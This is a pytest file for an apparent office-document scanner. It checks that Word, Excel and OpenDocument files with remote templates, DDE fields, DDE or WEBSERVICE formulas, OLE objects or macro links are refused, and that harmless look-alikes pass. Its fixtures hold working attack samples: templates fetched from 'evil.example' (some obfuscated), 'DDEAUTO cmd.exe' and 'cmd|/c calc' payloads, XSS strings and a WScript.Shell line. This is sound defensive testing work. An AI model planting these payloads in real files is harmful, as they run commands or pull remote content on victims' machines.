"""Office files and texts that would fetch, run or hide something, and harmless ones that look like them."""

import lzma
from io import BytesIO
from zipfile import ZIP_LZMA, ZipFile

import pytest

from app.documents.inspection import Reason
from tests.documents import files
from tests.documents.arrange import refused

EVIL = "http://evil.example/t.dotm"
TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
SETTINGS = "word/_rels/settings.xml.rels"


def relations(inner: str, around: str = "Relationships") -> bytes:
    return f'<{around} xmlns="{RELATIONS}" xmlns:a-b="{RELATIONS}">{inner}</{around}>'.encode()


def relation(kind: str, target: str = EVIL, mode: str = ' TargetMode="External"', name: str = "") -> str:
    return f'<{name}Relationship Id="r1" Type="{TYPES}/{kind}" Target="{target}"{mode}/>'


PLAIN = relations(relation("attachedTemplate"))
TEMPLATES = {
    "plainly": PLAIN,
    "its mode as a number": relations(relation("attachedTemplate", mode=' TargetMode="&#69;xternal"')),
    "in UTF-16": b"\xff\xfe" + PLAIN.decode().encode("utf-16-le"),
    "in UTF-16, the other way": b"\xfe\xff" + PLAIN.decode().encode("utf-16-be"),
    "under a prefix": relations(relation("attachedTemplate", name="a-b:")),
    "behind an attribute with a raw sign": relations(
        f'<Relationship x="a>b" Type="{TYPES}/attachedTemplate" Target="{EVIL}" TargetMode="External"/>'
    ),
    "behind eight megabytes": PLAIN.replace(b"<Rel", b"<!--" + b"x " * 4_500_000 + b"--><Rel", 1),
    "its type as a number": relations(relation("&#97;ttachedTemplate")),
    "without a mode": relations(relation("attachedTemplate", mode="")),
    "over the network": relations(relation("attachedTemplate", target=r"\\evil\t.dotm", mode="")),
    "as a link in the settings": relations(relation("hyperlink")),
}


@pytest.mark.parametrize("how", TEMPLATES)
def test_a_template_from_elsewhere_is_refused(how: str) -> None:
    # The comment is packed by more than a bomb may be: what cannot be packed is put in between.
    assert refused(files.word({SETTINGS: TEMPLATES[how]})) in {Reason.ACTIVE, Reason.BOMB}


def test_nothing_is_cut_off_in_a_part_that_is_no_bomb() -> None:
    words = b" ".join(b"%d" % (number * 7919) for number in range(1_200_000))
    content = PLAIN.replace(b"<Rel", b"<!--" + words + b"--><Rel", 1)
    assert len(content) > 8 * 1024 * 1024
    assert refused(files.word({SETTINGS: content})) is Reason.ACTIVE


def part(inner: str, coding: str = "utf-8") -> bytes:
    names = " ".join(f'xmlns:{each}="urn:{each}"' for each in ("w", "v", "o", "xlink", "draw", "text", "x"))
    return f'<x:part {names} xmlns:r="{TYPES}">{inner}</x:part>'.encode(coding)


def runs(*texts: str) -> str:
    return "".join(f"<w:r><w:instrText>{each}</w:instrText></w:r>" for each in texts)


OFFICE = {
    "a field that asks another program": runs(' DDEAUTO c:\\windows\\cmd.exe "/k calc"'),
    "such a field cut into runs": '<w:fldChar w:fldCharType="begin"/>' + runs(" ", "DD", 'EAUTO "x"'),
    "a simple field": '<w:fldSimple w:instr=" dde x y"/>',
    "a field that fetches a picture": runs(' INCLUDEPICTURE "http://evil.example/x.png"'),
    "a field far behind blanks": runs(" " * 200, "DDE x y"),
    "a text hidden in a field": "<w:instrText>DD<x:y/>E</w:instrText>",
    "a picture by its address": r'<v:imagedata src="\\evil\x.png"/>',
    "another document in it": '<w:altChunk r:id="r1"/>',
    "a link of Excel to a program": '<x:ddeLink ddeService="cmd" ddeTopic="/c calc"/>',
    "a formula that asks a server": "<x:f>1+WEBSERVICE(&quot;http://evil.example&quot;)</x:f>",
    "a formula that asks another program": "<x:f>cmd|'/c calc'!A0</x:f>",
    "a formula with a folder of another machine": r"<x:f>'\\evil\share\[a.xlsx]A'!A1</x:f>",
    "a connection": '<x:connection id="1" type="4"/>',
}
RELATED = ("oleObject", "aFChunk", "control", "vbaProject", "webextension", "subDocument", "image")


@pytest.mark.parametrize("what", OFFICE)
def test_an_office_file_that_reaches_out_is_refused(what: str) -> None:
    reason = refused(files.word({"word/x.xml": part(OFFICE[what])}))
    assert reason in {Reason.ACTIVE, Reason.AMBIGUOUS}
    assert refused(files.excel({"xl/data.bin": part(OFFICE[what], "utf-16")})) is reason


@pytest.mark.parametrize("kind", RELATED)
def test_a_relation_is_refused_by_its_type(kind: str) -> None:
    assert refused(files.word({"word/_rels/document.xml.rels": relations(relation(kind))})) is Reason.ACTIVE


def test_the_relation_of_a_link_serves_links_only() -> None:
    related = {"word/_rels/document.xml.rels": relations(relation("hyperlink"))}
    link = {"word/document.xml": part('<w:hyperlink r:id="r1"/>')}
    picture = {"word/document.xml": part('<x:blip r:link="r1"/>')}
    assert refused(files.word({**related, **link})) is None
    assert refused(files.word({**related, **picture})) is Reason.ACTIVE
    script = {"word/_rels/document.xml.rels": relations(relation("hyperlink", "javascript:alert(1)"))}
    assert refused(files.word({**script, **link})) is Reason.ACTIVE


@pytest.mark.parametrize("coding", ["latin-1", "utf-7", "utf-32", "cp037"])
def test_a_part_in_another_encoding_is_refused(coding: str) -> None:
    said = '<?xml version="1.0" encoding="' + coding + '"?>'
    assert refused(files.word({SETTINGS: (said + "<a/>").encode(coding)})) is Reason.DAMAGED


def test_a_file_of_both_families_is_refused() -> None:
    both = files.open_document(more={"[Content_Types].xml": b"<Types/>"})
    assert refused(both) is Reason.AMBIGUOUS


def test_a_part_packed_in_a_way_that_no_office_knows_is_refused() -> None:
    written = BytesIO()
    with ZipFile(written, "w", ZIP_LZMA) as made:
        made.writestr("[Content_Types].xml", b"<Types/>")
    content = written.getvalue()
    damaged = content.replace(lzma.compress(b"")[:1], b"?")[:60] + b"?" * 20 + content[80:]
    assert refused(content) is Reason.DAMAGED
    assert refused(damaged) is Reason.DAMAGED


LINKS = {
    "a picture from elsewhere": '<draw:image xlink:href="http://evil.example/x.png"/>',
    "a picture on another machine": '<draw:image xlink:href="//evil/x.png"/>',
    "a picture out of the file": '<draw:image xlink:href="../x.png"/>',
    "a section from elsewhere": '<text:section-source xlink:href=" http://evil.example/x.odt"/>',
    "a section under another prefix": '<x:section-source xmlns:y="urn:xlink" y:href="http://evil.example/"/>',
    "a template on another machine": '<x:template xlink:href="file://evil/t.ott"/>',
    "a template over the network": '<x:template xlink:href="file:////evil/t.ott"/>',
    "a plugin": '<draw:plugin xlink:href="x"/>',
    "an applet": "<draw:applet/>",
    "a frame": '<draw:floating-frame xlink:href="x"/>',
    "a question to another program": '<text:dde-connection-decl office="x"/>',
    "what happens at an event": "<x:event-listener/>",
    "an object of another program": '<draw:object-ole xlink:href="./Object 1"/>',
    "a link that runs a macro": '<text:a xlink:href="vnd.sun.star.script:x?language=Basic"/>',
    "a formula that asks another program": '<x:cell x:formula="of:=DDE(&quot;soffice&quot;)"/>',
    "a formula that asks a file": "<x:cell x:formula=\"of:='file:///tmp/a.ods'#$A.B1\"/>",
}


@pytest.mark.parametrize("what", LINKS)
@pytest.mark.parametrize("coding", ["utf-8", "utf-16"])
def test_an_open_document_that_reaches_out_is_refused(what: str, coding: str) -> None:
    assert refused(files.open_document(more={"x.xml": part(LINKS[what], coding)})) is Reason.ACTIVE


def test_an_open_document_with_a_link_a_picture_and_an_old_template_is_kept() -> None:
    harmless = (
        '<text:a xlink:href="https://www.kreis-wesel.de/">x</text:a><draw:image xlink:href="Pictures/1.png"/>'
        '<draw:object xlink:href="./Object 1"/><x:template xlink:href="../../Vorlagen/Brief.ott"/>'
        '<x:template xlink:href="file:///C:/Vorlagen/Brief.ott"/><x:cell x:formula="of:={1|2}+[.A1]"/>'
    )
    more = {"meta.xml": part(harmless), "Configurations2/accelerator/current.xml": b"", "Pictures/": b""}
    assert refused(files.open_document(more=more)) is None


def test_a_word_file_with_fields_and_fonts_is_kept() -> None:
    fields = '<w:fldChar w:fldCharType="begin"/>' + runs(' TOC \\o "1-3" ', "\\h") + runs('HYPERLINK "x"')
    formulas = "<x:f>IF('Ein|Aus'!A1&gt;1,&quot;a|b&quot;,Tab[a|b])</x:f>"
    more = {
        "word/x.xml": part(fields + formulas + '<w:fldSimple w:instr=" PAGE "/><v:imagedata r:id="r9"/>'),
        "word/fonts/font1.odttf": b"<\x12\x00font",
        "word/printerSettings1.bin": bytes(64),
        "word/_rels/document.xml.rels": relations(relation("image", "../media/image1.png", mode="")),
    }
    assert refused(files.word(more)) is None


TEXTS = (
    "[InternetShortcut]\nURL=file://evil/x", "WEB\n1\nhttp://evil.example/\n",
    "Windows Registry Editor Version 5.00\n",
    'Set x = CreateObject("WScript.Shell")', "ID;PWXL;N;E\n", "<img src=x onerror=alert(1)>", "<a href='x'>",
    "[AutoRun]\nopen=x", "[.ShellClassInfo]\nIconResource=x",
)  # fmt: skip


@pytest.mark.parametrize("text", TEXTS)
def test_a_text_that_a_program_would_take_for_its_own_is_refused(text: str) -> None:
    assert refused(text.encode()) is Reason.KIND
    assert refused(b"\xef\xbb\xbf\r\n" + text.encode()) is Reason.KIND


def test_a_message_with_addresses_in_angles_is_a_text() -> None:
    assert (
        refused(b"Von: Anja <anja@example.org>\n<https://example.org/a?b=c>\n[Notiz] 3 < 4 = wahr\n") is None
    )
